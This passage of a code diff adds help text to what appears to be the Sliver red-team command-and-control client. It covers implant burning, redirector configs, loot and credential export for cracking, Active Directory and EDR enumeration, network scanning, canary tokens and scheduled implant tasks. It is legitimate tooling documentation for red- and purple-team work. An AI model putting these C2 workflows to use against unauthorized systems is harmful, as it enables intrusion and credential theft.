+A new CA is generated (the previous CA files are kept as backups in the certs directory), every existing operator
+certificate is revoked, and all operator auth tokens are removed. Running multiplayer listeners pick up the new CA
+immediately. Generate new operator configs with new-operator afterwards.
+`
+
+	burnHelp = `[[.Bold]]Command:[[.Normal]] burn [implant name]
+[[.Bold]]About:[[.Normal]] Mark an implant build as compromised.
+
+Once an implant build is burned every listener (mTLS, WireGuard, DNS, HTTP(S), and pivots) stops talking
+to it. HTTP(S) listeners serve their normal decoy content, DNS listeners refuse the query, and mTLS
+connections are closed. Live sessions for the implant are removed. Any contact from a burned implant is
+logged and raises an alert on every operator's console.
+
+If no implant name is given the name of the active session or beacon is used.
+
+[[.Bold]][[.Underline]]Examples:[[.Normal]]
+
+	burn RUDE_FRIEND
+	burn --unburn RUDE_FRIEND
+`
+
+	httpC2RedirectorHelp = `[[.Bold]]Command:[[.Normal]] http-c2 redirector <nginx|apache|caddy|haproxy> --upstream <url>
+[[.Bold]]About:[[.Normal]] Generate a redirector config from the HTTP C2 config.
+
+The generated config only forwards requests that match the traffic shape of the HTTP C2 config to the
+upstream Sliver listener:
+	- The URI must be built from the profile's paths, file names, and file extensions
+	- The request method must match the route (e.g. polls are always GET)
+	- A nonce query parameter must be present
+	- Headers the implant sends on every request (including the User-Agent) must match
+
+Stager requests are only checked against the stager paths and file extension. Everything else falls
+through to the decoy (--decoy), or a 404 if no decoy is specified. Headers with a probability, or that are
+restricted to specific methods, are optional and are not checked.
+
+If the implant's C2 URL includes a path (e.g. https://example.com/foo/) pass it with --path-prefix.
+By default the current version of the HTTP C2 config is used, use --version to target implants generated
+with a previous version.
+
+[[.Bold]][[.Underline]]++ Examples ++[[.Normal]]
+	http-c2 redirector nginx --upstream https://10.0.0.1:443 --decoy https://example.com --server-name cdn.example.com
+	http-c2 redirector haproxy --upstream http://10.0.0.1 --port 8080 --save haproxy.cfg
+`
+
+	lootTagHelp = `[[.Bold]]Command:[[.Normal]] loot tag [loot id]
+[[.Bold]]About:[[.Normal]] Add or remove tags on a piece of loot.
+
+Tags are case-insensitive and can be used to filter "loot search" and "loot export". If no loot id
+(or unambiguous id prefix) is given you will be prompted to select a piece of loot.
+
+[[.Bold]][[.Underline]]Examples:[[.Normal]]
+
+	loot tag 1a2b3c4d --add domain-admin,lsass
+	loot tag 1a2b3c4d --remove lsass
+`
+
+	lootSearchHelp = `[[.Bold]]Command:[[.Normal]] loot search <terms>
+[[.Bold]]About:[[.Normal]] Search loot and credentials.
+
+Every search term must match (case-insensitive) the loot's name, file name, tags, or SHA256 hash.
+Credentials are matched on their username, plaintext, hash, and collection. Use --content to also
+search the contents of text loot. Results can be narrowed with --tag and --host, credentials are
+not tagged so they are omitted when filtering by tag.
+
+[[.Bold]][[.Underline]]Examples:[[.Normal]]
+
+	loot search administrator
+	loot search --host DC01 --tag domain-admin
+	loot search --content password
+`
+
+	lootExportHelp = `[[.Bold]]Command:[[.Normal]] loot export [terms]
+[[.Bold]]About:[[.Normal]] Export loot and credentials for reporting.
+
+The csv and json formats contain metadata for each piece of loot and credential. The zip format
+contains the loot files themselves grouped into a directory per host (or per tag with --group-by tag)
+along with a manifest.json describing everything exported. The same search terms and filters as
+"loot search" can be used to limit what is exported.
+
+[[.Bold]][[.Underline]]Examples:[[.Normal]]
+
+	loot export
+	loot export --format csv --save ./report/
+	loot export --format zip --group-by tag --tag domain-admin
+`
+
+	credsExportHelp = `[[.Bold]]Command:[[.Normal]] creds export
+[[.Bold]]About:[[.Normal]] Export uncracked hashes as a hashcat or john cracking job.
+
+A hash file is written for each hash type along with a crack.sh script that runs every attack
+(set the WORDLIST environment variable to choose a wordlist). The script saves its results to
+sliver.potfile (hashcat) or cracked.txt (john), which can be imported with "creds cracked".
+Hash types that john does not support are left out of john jobs.
+
+[[.Bold]][[.Underline]]Examples:[[.Normal]]
+
+	creds export --format hashcat --save ./job
+	creds export --format john --hash-type NTLM
+`
+
+	credsCrackedHelp = `[[.Bold]]Command:[[.Normal]] creds cracked <file>
+[[.Bold]]About:[[.Normal]] Import cracked results from hashcat or john.
+
+Hashcat pot files and --show output, john pot files, and the cracked.txt written by a john job
+from "creds export" are supported. Any uncracked credential with a matching hash is updated
+with its plaintext.
+
+[[.Bold]][[.Underline]]Examples:[[.Normal]]
+
+	creds cracked ./job/sliver.potfile
+	creds cracked ./job/cracked.txt
+`
+
+	replayHelp = `[[.Bold]]Command:[[.Normal]] replay [recording id]
+[[.Bold]]About:[[.Normal]] List and replay recordings of interactive shells and session consoles.
+
+The server records the input and output of every interactive shell, and every command (and its response) sent to a session, as asciicast v2 files. Recordings are listed when no ID is given, a unique prefix of an ID is enough to replay it. Replays keep the original timing, use --speed to play faster and --max-idle to skip long pauses. Console responses larger than 64KB are truncated.
+
+Recordings can be saved with --save and played with any asciinema compatible player, e.g. for reports or training material. Recordings can be disabled by setting "recordings": {"disabled": true} in the server config.
+
+[[.Bold]]Examples:[[.Normal]]
+
+	replay --session STUPID_NAME
+	replay 20230915T142233
+	replay --speed 4 --max-idle 1 20230915T142233
+	replay --save ./report/ 20230915T142233
+`
+
+	federationHelp = `[[.Bold]]Command:[[.Normal]] federation
+[[.Bold]]About:[[.Normal]] Link other Sliver servers to this one, so their sessions, beacons, and loot can be browsed from a single operator view.
+
+This supports split infrastructure, for example long-haul beacons on one server and interactive sessions on another. This server connects to each linked server as an operator, using an operator config generated on the linked server ("new-operator"). Links are stored in this server's database and are reconnected when the server starts. While linked, this server shows up as a connected operator on the linked server.
+
+Sessions and beacons on linked servers can be listed but not interacted with; connect to the linked server to use them. Loot can be fetched, and optionally replicated into this server's loot store. If linked with --relay-events, new sessions, beacons, loot, and burn alerts on the linked server are shown to this server's operators.
+
+[[.Bold]]Examples:[[.Normal]]
+
+	federation link --name longhaul --relay-events ./longhaul_operator.cfg
+	federation sessions
+	federation beacons --server longhaul
+	federation loot
+	federation fetch --local longhaul 7e3c8f2a
+	federation unlink longhaul
+`
+
+	federationLinkHelp = `[[.Bold]]Command:[[.Normal]] federation link [--name NAME] [--relay-events] <operator config>
+[[.Bold]]About:[[.Normal]] Link a server using one of its operator configs.
+
+The connection is tested before the link is saved. The operator config is stored in this server's database, encrypted if at-rest encryption is enabled. Use a dedicated operator for each link, so the link can be revoked on the linked server by kicking that operator.
+`
+
+	federationFetchHelp = `[[.Bold]]Command:[[.Normal]] federation fetch [--save PATH] [--local] <linked server> <loot id>
+[[.Bold]]About:[[.Normal]] Fetch a piece of loot from a linked server.
+
+The loot is shown, or saved to a file with --save. With --local, the loot is also added to this server's loot store and tagged "federation:<linked server>".
+`
+
+	automationHelp = `[[.Bold]]Command:[[.Normal]] automation
+[[.Bold]]About:[[.Normal]] Manage server-side automation rules. A rule runs a sequence of tasks when a session connects or a beacon registers, on the server, so it runs even when no operator is connected.
+
+Rules can be limited to an operating system, and to hostnames or usernames matching a (case insensitive) regular expression. Every enabled rule that matches runs, and the tasks of a rule run in order. Session tasks run immediately; beacon tasks are queued and run the next time the beacon checks in. Task output is saved as loot tagged "automation" and "rule:<name>", and operators are notified as rules run.
+
+[[.Bold]]Tasks:[[.Normal]]
+
+	ps, ifconfig, netstat, pwd, screenshot
+	ls [path]
+	getenv [name]
+	execute <path> [args...]   Run a program and save its output
+	interval <duration> [jitter]   Change the reconnect interval (sessions) or the interval and jitter (beacons)
+	tag <name>   Tag the implant's host (shown by "hosts")
+	sleep <duration>   Wait before the next task
+
+[[.Bold]]Examples:[[.Normal]]
+
+	automation add --task ps --task ifconfig --task netstat --task "tag new" recon
+	automation add --event beacon-registered --os windows --task "execute whoami /all" --task "interval 1h 10m" windows-beacons
+	automation disable recon
+	automation rm recon
+`
+
+	automationAddHelp = `[[.Bold]]Command:[[.Normal]] automation add [--event EVENT] [--os OS] [--hostname REGEX] [--username REGEX] --task TASK... <name>
+[[.Bold]]About:[[.Normal]] Add an automation rule, or replace the rule with the same name.
+
+Each --task is one task, arguments with spaces must be quoted. Tasks are validated when the rule is saved. The event is "session-connected" (default) or "beacon-registered".
+`
+
+	canariesHelp = `[[.Bold]]Command:[[.Normal]] canaries [--burned]
+[[.Bold]]About:[[.Normal]] List canaries and their status. Canaries detect payload analysis and defender access, triggered canaries are alerted to every operator (and any server exporters).
+
+[[.Bold]]DNS canaries[[.Normal]] are unique domains embedded in implants with "generate --canary", and trigger when the domain is resolved (requires a DNS listener for the parent domain).
+
+[[.Bold]]HTTP, AWS, and document canaries[[.Normal]] trigger through an HTTP(S) listener, the URL you give must reach one of your listeners (directly or through a redirector):
+
+	http      A URL that triggers when it is requested
+	aws       An AWS credentials file whose endpoint is your listener, any AWS CLI or SDK call using it triggers
+	document  A Word document with a linked picture that triggers when the document is opened
+
+[[.Bold]]Examples:[[.Normal]]
+
+	canaries http --name wiki-link https://cdn.example.com
+	canaries aws --name jenkins-creds --save ./credentials https://api.example.com
+	canaries document --name "Q3 Salaries" https://cdn.example.com
+	canaries rm 3f2a9c1d
+`
+
+	canariesHTTPHelp = `[[.Bold]]Command:[[.Normal]] canaries http [--name NAME] <listener url>
+[[.Bold]]About:[[.Normal]] Generate a URL on an HTTP(S) listener that triggers when it is requested. The listener responds with a 404.
+`
+
+	canariesAWSHelp = `[[.Bold]]Command:[[.Normal]] canaries aws [--name NAME] [--save PATH] <listener url>
+[[.Bold]]About:[[.Normal]] Generate trap AWS credentials. The credentials are saved as an AWS shared credentials file with an "endpoint_url" of your listener, so any API call made with the AWS CLI (v2) or an SDK that honors "endpoint_url" is sent to the listener and triggers the canary. The listener responds with an invalid credentials error. Place the file where a defender will find it (e.g. ~/.aws/credentials or a CI config).
+`
+
+	canariesDocumentHelp = `[[.Bold]]Command:[[.Normal]] canaries document [--name NAME] [--save PATH] <listener url>
+[[.Bold]]About:[[.Normal]] Generate a Word (docx) document that triggers when it is opened. The document links a picture from your listener, which Word requests when the document is displayed (not in Protected View). The name is used as the document title and file name.
+`
+
+	hostsInfoHelp = `[[.Bold]]Command:[[.Normal]] hosts info [host]
+[[.Bold]]About:[[.Normal]] Show everything known about a host, aggregated across every session and beacon that has run on it. Sessions and beacons are matched to a host by the host UUID they report, so the output survives an implant reconnecting with a new session ID.
+
+The host may be given as a host UUID prefix or a hostname, you are prompted to select a host otherwise. The output includes:
+
+  * The host's sessions and beacons
+  * Loot collected from the host
+  * The most recent commands run on the host, by any operator (use --history to show more)
+  * The most recent process list returned by 'ps' on any session or beacon (use --processes to show it)
+`
+
+	hostsScansHelp = `[[.Bold]]Command:[[.Normal]] hosts scans [host] [--address ADDRESS]
+[[.Bold]]About:[[.Normal]] Show the open ports found by 'scan' on any session or beacon, optionally only the scans run from one host (a host UUID prefix or hostname) or of one scanned address. Ports found by later scans are added to earlier results, addresses that only responded to a ping are shown as "(up)".
+`
+
+	hostsDiscoveredHelp = `[[.Bold]]Command:[[.Normal]] hosts discovered [host] [--address ADDRESS]
+[[.Bold]]About:[[.Normal]] Show the hosts found by 'discover' on any session or beacon, optionally only those discovered from one host (a host UUID prefix or hostname) or one discovered address. Names, roles, and sources found by later discoveries are added to what was already known, shares and sessions are replaced by the most recent SMB enumeration.
+`
+
+	hostsTimelineHelp = `[[.Bold]]Command:[[.Normal]] hosts timeline [host] [--kind KIND] [--format text|csv|json] [--save FILE]
+[[.Bold]]About:[[.Normal]] Show everything that happened on a host (a host UUID prefix or hostname) in chronological order, across all of its sessions and beacons. Useful for writing reports and for verifying cleanup at the end of an engagement.
+
+Event kinds:
+	contact      - first contact with the host
+	session      - a session that is currently connected was opened
+	beacon       - a beacon was opened
+	task         - a command was run on a session or beacon
+	file         - a file was uploaded, downloaded, moved, copied, removed, or had its permissions/times changed
+	persistence  - a service was started, the registry was written, or a file was backdoored
+	loot         - loot was collected from the host
+
+Sessions are only kept while they are connected, the commands run on closed sessions are still shown. Exports use UTC RFC3339 times, --save writes csv unless --format json is used.
+
+[[.Bold]]Examples:[[.Normal]]
+
+	hosts timeline WS01
+	hosts timeline WS01 --kind file,persistence
+	hosts timeline WS01 --format json --save ws01-timeline.json
+`
+
+	hostsExportHelp = `[[.Bold]]Command:[[.Normal]] hosts export [hosts...] [--format stix|attack-flow] [--since DURATION] [--save FILE]
+[[.Bold]]About:[[.Normal]] Export the hosts (all unless given), their sessions and beacons, and the MITRE ATT&CK techniques observed in the commands run on them, for sharing with the defensive team after a purple team engagement.
+
+Formats:
+	stix         - a STIX 2.1 bundle, hosts are system identities, implants are malware, and every technique is an
+	               attack pattern with a sighting per host (first seen, last seen, count)
+	attack-flow  - an Attack Flow (STIX extension) document with a flow of actions per host in the order the
+	               techniques were used, open it with the Attack Flow Builder
+
+Only successful commands that map to a technique are exported (e.g. ps is Process Discovery, procdump is LSASS Memory),
+the C2 channel of every implant is exported as well. Object ids are derived from their content, so exporting again
+updates the same objects.
+
+[[.Bold]]Examples:[[.Normal]]
+
+	hosts export --name "Q3 Purple Team" --save engagement.json
+	hosts export WS01 DC01 --format attack-flow --since 48h
+`
+
+	hostsCoverageHelp = `[[.Bold]]Command:[[.Normal]] hosts coverage [hosts...] [--since DURATION] [--per-host] [--save FILE]
+[[.Bold]]About:[[.Normal]] Summarize the MITRE ATT&CK techniques used on the hosts (all unless given), to check them
+against what the defensive team detected in a detection validation exercise.
+
+Every implant command is tagged with the technique it maps to when it runs (e.g. ps is T1057 Process Discovery,
+procdump is T1003.001 LSASS Memory), the tag is shown in the history of 'hosts info'. Techniques are listed in kill
+chain order with the number of hosts they were used on, how often they succeeded and failed, and by which operators.
+Commands that don't map to a technique (e.g. ping) are not counted.
+
+Use --save to export one csv row per technique per host, with the first and last time it was used (UTC).
+
+[[.Bold]]Examples:[[.Normal]]
+
+	hosts coverage --since 48h
+	hosts coverage WS01 DC01 --per-host
+	hosts coverage --save coverage.csv
+`
+
+	taskmanyRunHelp = `[[.Bold]]Command:[[.Normal]] taskmany run [--wait DURATION] <command>
+[[.Bold]]About:[[.Normal]] Select sessions and beacons from a checkbox list and run a command on each of them. Unlike the other taskmany subcommands any implant command can be run, with its usual flags. The output of each target is captured and shown once every target has run the command, grouped by host.
+
+Sessions run the command one after the other. Beacons are tasked and their results are waited on for up to --wait (default 1m), results that arrive later are printed as usual. Commands that aren't supported by a target (e.g. session only commands on a beacon) are reported and skipped. Flags after the command are passed to the command.
+
+[[.Bold]]Examples:[[.Normal]]
+
+	taskmany run whoami
+	taskmany run --wait 5m ls -l C:/Users
+	taskmany run execute -o hostname
+`
+
+	armoryInstallHelp = `[[.Bold]]Command:[[.Normal]] armory install <package or bundle>[@version]
+[[.Bold]]About:[[.Normal]] Install an alias, extension, or bundle from the armories, use "all" to install every package. Dependencies are installed first: the extension that loads the package (depends_on) and the packages listed in the manifest's "dependencies", e.g. "coff-loader" or "coff-loader>=1.0.14". Installed dependencies older than required are updated. Packages that set "min_sliver_version" are not installed by older clients.
+
+Installing a specific version (a release tag for GitHub armories) pins the package to it, see "armory pin".
+
+[[.Bold]]Examples:[[.Normal]]
+
+	armory install nanodump
+	armory install nanodump@v0.0.5
+`
+
+	armoryUpdateHelp = `[[.Bold]]Command:[[.Normal]] armory update [--dry-run]
+[[.Bold]]About:[[.Normal]] Update the installed aliases and extensions whose version in the armory differs from the installed version. The changes each update makes to the package's manifest (version, files, arguments, dependencies, etc.) are shown first, use --dry-run to only show them. Pinned packages, and versions that require a newer client, are skipped.
+`
+
+	armoryPinHelp = `[[.Bold]]Command:[[.Normal]] armory pin [package]
+[[.Bold]]About:[[.Normal]] Pin a package to its installed version so "armory update" skips it, or list the pinned packages. Packages are also pinned when a specific version is installed or rolled back to.
+`
+
+	armoryUnpinHelp = `[[.Bold]]Command:[[.Normal]] armory unpin <package>
+[[.Bold]]About:[[.Normal]] Remove a package's pin, the next "armory update" updates it to the latest version.
+`
+
+	armoryRollbackHelp = `[[.Bold]]Command:[[.Normal]] armory rollback <package>
+[[.Bold]]About:[[.Normal]] Restore the version of a package that its last install or update replaced, the package is pinned to the restored version. Rolling back again returns to the newer version.
+`
+
+	armoryPublishHelp = `[[.Bold]]Command:[[.Normal]] armory publish <directory or .tar.gz>
+[[.Bold]]About:[[.Normal]] Publish an alias or extension to the server's private armory, so air-gapped teams can run their own armory. The package is a directory or .tar.gz containing an alias.json or extension.json manifest (the same layout as the public armory), directories are packaged for you. The server signs the package with its armory minisign key, the manifest's version is recorded and a published version cannot be replaced, publish a new version instead.
+
+Clients install and update published packages with the usual armory commands once the armory is added to their armories.json, see "armory serve".
+
+[[.Bold]]Examples:[[.Normal]]
+
+	armory publish ./rubeus
+	armory publish ./nanodump-1.2.0.tar.gz
+`
+
+	armoryHostedHelp = `[[.Bold]]Command:[[.Normal]] armory hosted
+[[.Bold]]About:[[.Normal]] List every published version of the private armory's packages, the latest version of each package (shown in green) is the one served to clients. Also shows the armory's public key.
+`
+
+	armoryUnpublishHelp = `[[.Bold]]Command:[[.Normal]] armory unpublish <command name> [version]
+[[.Bold]]About:[[.Normal]] Remove a version of a package from the private armory, or every version if none is given. Once the latest version is removed the previous version is served again.
+`
+
+	armoryServeHelp = `[[.Bold]]Command:[[.Normal]] armory serve [--lport PORT] [--secure] [--authorization VALUE]
+[[.Bold]]About:[[.Normal]] Start a job serving the private armory's signed index and packages over http(s), and print the armories.json entry clients need (the public key, index url, and authorization). With --authorization clients must send the same Authorization header value, which is what the armories.json "authorization" field does.
+
+[[.Bold]]Examples:[[.Normal]]
+
+	armory serve --secure --lhost 10.0.0.5
+	armory serve --cert armory.crt --key armory.key --authorization "Bearer 3c1e2b..."
+`
+
+	pluginsHelp = `[[.Bold]]Command:[[.Normal]] plugins
+[[.Bold]]About:[[.Normal]] List the loaded client plugins. Plugins are external programs (any language) that add commands to the server or session/beacon menu without changing the client. Installed plugins are loaded from the "plugins" directory of the client's app dir.
+
+A plugin is a directory with a [[.Bold]]plugin.json[[.Normal]] manifest:
+
+{
+  "name": "recon",
+  "version": "1.0.0",
+  "entrypoint": ["python3", "recon.py"],
+  "commands": [
+    {
+      "name": "users",
+      "menu": "implant",
+      "help": "Show logged on users",
+      "usage": "[filter]",
+      "flags": [{"name": "all", "shorthand": "a", "type": "bool", "help": "include system users"}]
+    }
+  ]
+}
+
+The menu is "implant" (default) or "server", flag types are "string" (default), "bool", or "int". The entrypoint is started in the plugin directory each time one of its commands is run, and talks to the client with one json message per line over stdin/stdout:
+
+  client -> plugin  {"type":"run","protocol":1,"command":"users","args":[...],"flags":{"all":true},"session":{...}}
+  plugin -> client  {"type":"info|success|warn|error|print","text":"..."}
+  plugin -> client  {"type":"rpc","id":1,"method":"Ps","request":{...},"wait":true}
+  client -> plugin  {"type":"rpc_result","id":1,"response":{...},"error":"..."}
+
+Any unary RPC of the Sliver service can be called with protobuf json requests and responses. The active session/beacon is used if the request's "Request" field is left out, with "wait" the results of beacon tasks are returned instead of the task. The command ends when the plugin exits, stderr is shown as is.
+`
+
+	pluginsLoadHelp = `[[.Bold]]Command:[[.Normal]] plugins load <directory>
+[[.Bold]]About:[[.Normal]] Load a plugin from a directory for this client session only, e.g. while developing it. See "help plugins" for the manifest format.
+`
+
+	pluginsInstallHelp = `[[.Bold]]Command:[[.Normal]] plugins install <directory>
+[[.Bold]]About:[[.Normal]] Copy a plugin directory to the client's plugins directory and load it, installed plugins are loaded every time the client starts.
+`
+
+	pluginsRmHelp = `[[.Bold]]Command:[[.Normal]] plugins rm <name>
+[[.Bold]]About:[[.Normal]] Unload a plugin, installed plugins are also deleted from the plugins directory.
+`
+
+	tasksPendingHelp = `[[.Bold]]Command:[[.Normal]] tasks pending
+[[.Bold]]About:[[.Normal]] List the active beacon's pending tasks in the order they will be sent at the next check-in. Use "tasks move" to change the order and "tasks cancel" to recall tasks that were queued by mistake. Tasks are started in this order, but the implant runs them concurrently.
+`
+
+	tasksMoveHelp = `[[.Bold]]Command:[[.Normal]] tasks move <task id> <position>
+[[.Bold]]About:[[.Normal]] Move a pending task to a new position in the queue, the position is 1-based or "first"/"last". The task ID may be a prefix. Tasks queued afterwards are still sent last.
+
+[[.Bold]]Examples:[[.Normal]]
+
+	tasks move 3f2a9c1d first
+	tasks move 3f2a 2
+`
+
+	tasksCancelHelp = `[[.Bold]]Command:[[.Normal]] tasks cancel [task ids...] [--all]
+[[.Bold]]About:[[.Normal]] Cancel pending tasks so they are never sent to the beacon, you are prompted to select a task if none are given. Task IDs may be prefixes. Tasks that have already been sent cannot be canceled.
+`
+
+	scanHelp = `[[.Bold]]Command:[[.Normal]] scan [--ports PORTS] [--ping] [--banners] <targets>
+[[.Bold]]About:[[.Normal]] TCP connect scan run by the implant, so no socks proxy or uploaded tools are needed. Targets are separated by spaces or commas and may be addresses, IPv4 CIDRs (up to a /16), ranges of the last octet (e.g. 10.0.0.1-50), or hostnames.
+
+Ports default to a list of commonly open ports ("top"), and may be a list of ports and ranges that can include "top". With --ping only hosts that accept or refuse a connection to one of a few common ports are port scanned, which does not require raw sockets. With --banners the first bytes sent by each open port are shown, services that wait for the client are sent an HTTP request.
+
+Results are saved to the host the scan was run from, see "hosts scans".
+
+[[.Bold]]Examples:[[.Normal]]
+
+	scan 10.0.0.0/24
+	scan --ping --banners 10.0.0.0/24,10.0.1.1-20
+	scan -p 22,80,443,8000-8100 dc01.corp.local
+	scan -p top,9100 -T 500 -n 200 172.16.0.0/22
+`
+
+	discoverHelp = `[[.Bold]]Command:[[.Normal]] discover [--arp] [--sweep] [--netbios] [--mdns] [--smb] [--ldap] [--all] [targets]
+[[.Bold]]About:[[.Normal]] Discover the hosts around the remote system using only the implant, and merge what each method finds into one record per address. Targets use the same syntax as "scan", without targets the networks of the implant's interfaces are used (networks larger than a /22 are limited to the /24 of the interface).
+
+Methods (the arp cache, netbios, and mdns are used by default):
+	--arp      - Read the arp cache, no packets are sent
+	--sweep    - Send a packet to each target so the system resolves its MAC address
+	--netbios  - Query the netbios names, workgroup, and MAC address of each target (udp/137)
+	--mdns     - Reverse lookup of each target using multicast dns (udp/5353)
+	--smb      - Enumerate the shares and logged on users of each target (windows only, tcp/445)
+	--ldap     - Query the rootDSE of each target to find domain controllers (tcp/389)
+
+Targets may cover at most 4096 addresses. Discovered hosts are saved to the host discovery was run from, see "hosts discovered", and hosts that aren't in the inventory yet are added to it with the "discovered" tag.
+
+[[.Bold]]Examples:[[.Normal]]
+
+	discover
+	discover --sweep --netbios 10.0.0.0/24
+	discover --all -T 500 10.0.0.1-50,10.0.1.0/24
+`
+
+	adHelp = `[[.Bold]]Command:[[.Normal]] ad <users|groups|spns|trusts|gpos|delegation> [--domain DOMAIN] [--server SERVER] [--username USER --password PASSWORD]
+[[.Bold]]About:[[.Normal]] Query Active Directory over LDAP from the implant, without running any .NET tooling. Windows implants bind with their own credentials (or those of the token they impersonate) using the system's LDAP library, other implants need a --username and --password and a --domain or --server. The domain's controller is found from the domain, and the base dn from the domain controller.
+
+Other implants only send their password over tls, using StartTLS unless --ldaps is given, and refuse to bind if the domain controller doesn't support it. The domain controller's certificate is verified with the system's roots, domain controllers often have a certificate of an internal CA so use --insecure-skip-verify if that's the case.
+
+Queries:
+	users       - User accounts, their flags, groups, and password and logon times
+	groups      - Groups, their type, and the number of members
+	spns        - Enabled users with service principal names (kerberoastable)
+	trusts      - Trusts of the domain, their direction, type, and attributes
+	gpos        - Group policy objects and their paths in SYSVOL
+	delegation  - Accounts trusted for unconstrained delegation, other than domain controllers
+
+Results are saved as json loot of the host the query was run from, tagged "ad" and with the query, see "loot". Passwords given with --password are not saved in the host's command history.
+
+[[.Bold]]Examples:[[.Normal]]
+
+	ad users
+	ad spns --domain child.corp.local
+	ad groups --limit 100
+	ad trusts -s dc01.corp.local -u alice@corp.local -p Password1 --ldaps
+	ad users -s 10.0.0.5 -u alice@corp.local -p Password1 --insecure-skip-verify
+`
+
+	edrEnumHelp = `[[.Bold]]Command:[[.Normal]] edr-enum
+[[.Bold]]About:[[.Normal]] Identify the AV/EDR products on the remote system. The implant only reads files, the registry, and local APIs, nothing is executed. Each component found is listed with the product it belongs to, components of unknown vendors are shown as "unknown".
+
+Windows:
+	service, driver  - Installed services and drivers, and any driver registered as an anti-virus minifilter
+	process          - Running processes
+	module           - Libraries injected into the implant's process
+	wfp-filter       - Non-Windows providers of wfp filters (requires admin)
+	hook             - Functions of ntdll, kernelbase, and kernel32 whose code in the implant's process differs from the library on disk
+
+Linux: systemd services, processes, kernel modules, install paths, and preloaded libraries (LD_PRELOAD, /etc/ld.so.preload).
+MacOS: processes, system extensions, install paths, and DYLD_INSERT_LIBRARIES.
+
+Checks that fail (e.g. wfp filters without admin) are shown as warnings and the other checks still run.
+`
+
+	resolversHelp = `[[.Bold]]Command:[[.Normal]] resolvers [--reset] [resolvers...]
+[[.Bold]]About:[[.Normal]] Show or set the resolvers of the implant's name resolution, which is used by the implant itself (e.g. to resolve its c2 domains), by socks5 proxies and port forwards, and by tasks like scan. Lookups no longer go through the target's local resolver, so they don't show up in its logs.
+
+Resolvers are ip addresses with an optional port (53 by default), or "c2" to resolve through the server: dns messages are sent over the session's connection and resolved by the server's own resolvers. They are tried in order. c2 is skipped when there is no session connection (beacons, or while reconnecting to the c2), if it's the only resolver the system's dns servers are used in that case. Resolvers can also be set when the implant is generated with --dns-resolvers.
+
+Without arguments the current resolvers are shown, --reset switches back to the system's dns servers.
+
+[[.Bold]]Examples:[[.Normal]]
+
+	resolvers
+	resolvers c2 10.0.0.53
+	resolvers 1.1.1.1 8.8.8.8:53
+	resolvers --reset
+`
+
+	schedulesHelp = `[[.Bold]]Command:[[.Normal]] schedules
+[[.Bold]]About:[[.Normal]] Manage scheduled tasks. A scheduled task runs a sequence of tasks against one session or beacon, once at a given time or on a recurring schedule. Schedules are stored and run by the server, so they run even when no operator is connected and survive server restarts (a run that was missed while the server was down runs once when it starts).
+
+The tasks are the same as automation rules (see "help automation"). Session tasks run immediately; beacon tasks are queued and run the next time the beacon checks in. Task output is saved as loot tagged "automation" and "schedule:<name>". If a session reconnects, the schedule moves to the new session of the same implant on the same host. A run is skipped if the session or beacon is not connected.
+
+[[.Bold]]Examples:[[.Normal]]
+
+	schedules add --every 1h --task screenshot hourly-screenshots
+	schedules add --implant 3f2a9c1d --cron "0 9 * * 1-5" --task "execute C:/Tools/Seatbelt.exe -group=user" daily-seatbelt
+	schedules add --in 30m --task ps --task netstat once
+	schedules disable hourly-screenshots
+	schedules rm hourly-screenshots
+`
+
+	schedulesAddHelp = `[[.Bold]]Command:[[.Normal]] schedules add [--implant ID] (--at TIME | --in DURATION | --every DURATION | --cron EXPR) --task TASK... <name>
+[[.Bold]]About:[[.Normal]] Add a scheduled task, or replace the scheduled task with the same name. The task runs against the active session or beacon unless --implant is given.
+
+	--at      Run once at a time, RFC 3339 (2023-09-20T14:00:00Z) or local time (2023-09-20 14:00)
+	--in      Run once after a duration (e.g. 30m, 6h)
+	--every   Run at an interval of at least one minute (e.g. 1h)
+	--cron    Run on a five field cron expression (minute hour day month weekday), evaluated in UTC. Also accepts @hourly, @daily, @weekly, @monthly, and @yearly
+
+Each --task is one task, arguments with spaces must be quoted. Tasks are validated when the scheduled task is saved.
+`
+
+	groupsHelp = `[[.Bold]]Command:[[.Normal]] groups
+[[.Bold]]About:[[.Normal]] Manage named groups of sessions and beacons, and run tasks against every member of a group at once with "groups task".
+
+Membership is worked out when a group is used, so new implants join matching groups automatically. An implant is a member if it matches every filter the group has:
+
+	--os       The implant's operating system
+	--tag      Any of the host tags (see "hosts" and the automation "tag" task)
+	--subnet   Any of the subnets (CIDR or address), matched against the implant's remote address
+
+Implants given with --implant are always members.
+
+[[.Bold]]Examples:[[.Normal]]
+
+	groups add --os windows --subnet 10.10.0.0/16 corp-windows
+	groups add --tag dc --tag sql crown-jewels
+	groups members corp-windows
+	groups task --task "execute C:/Windows/System32/whoami.exe /all" --task screenshot corp-windows
+`
+
+	groupsAddHelp = `[[.Bold]]Command:[[.Normal]] groups add [--os OS] [--tag TAG...] [--subnet CIDR...] [--implant ID...] <name>
+[[.Bold]]About:[[.Normal]] Add an implant group, or replace the group with the same name. A group needs at least one filter or implant.
+`
+
+	groupsTaskHelp = `[[.Bold]]Command:[[.Normal]] groups task --task TASK... <name>
+[[.Bold]]About:[[.Normal]] Run tasks against every session and beacon in a group, and print the result of each task on each host. Members are tasked in parallel, the tasks of each member run in order. The tasks are the same as automation rules (see "help automation"), each --task is one task and arguments with spaces must be quoted.
+
+Session output is saved as loot tagged "automation" and "group:<name>", execute output is also printed. Beacon tasks are queued and their output is saved as loot when the beacon checks in.
+`
+
+	mtlsHelp = `[[.Bold]]Command:[[.Normal]] mtls [flags]
+[[.Bold]]About:[[.Normal]] Start an mTLS listener.
+
+[[.Bold]][[.Underline]]Single Packet Authorization[[.Normal]]
+With --spa the listener also reads knocks from the udp port with the same number, and only accepts connections
+from addresses that sent a valid one in the last 30 seconds. Connections from other addresses are closed before
+the TLS handshake, so scanners can't fingerprint the listener. Implants have to be generated with --spa, their
+knocks are authenticated with a key only the server and its implants know and can't be replayed.
+
+Use --knock-ports to knock on a sequence of other udp ports instead, each knock has to arrive on its port in order
+and within 10 seconds of the previous one. Implants get the sequence from the "knock" option of their mtls c2, with
+the ports separated by colons, e.g. --mtls "example.com:8888?knock=7001:7002:7003".
+
+To keep the port closed altogether set the "spa" firewall commands in the server config, they're run with {ip}
+and {port} replaced as addresses are allowed and expire, e.g. for iptables (the port must be dropped by default):
+	"spa": {
+		"allow_command": "iptables -I INPUT -p tcp -s {ip} --dport {port} -j ACCEPT",
+		"revoke_command": "iptables -D INPUT -p tcp -s {ip} --dport {port} -j ACCEPT",
+		"window": 30,
+		"clock_skew": 3600
+	}
+Knocks are timestamped, those more than "clock_skew" seconds (an hour by default) from the server's clock are
